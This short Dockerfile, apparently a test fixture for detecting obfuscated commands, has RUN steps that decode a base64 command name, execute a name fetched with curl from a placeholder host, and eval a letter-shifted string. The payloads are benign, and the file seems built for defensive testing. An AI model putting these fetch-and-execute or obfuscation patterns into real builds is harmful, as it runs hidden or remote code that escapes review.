FROM debian:12
RUN $(which $(echo c29tZXRoaW5n | base64 -d)) --version
RUN $(curl -s https://files.example.invalid/name) --version
RUN eval "$(echo ls | tr a-z b-za)"
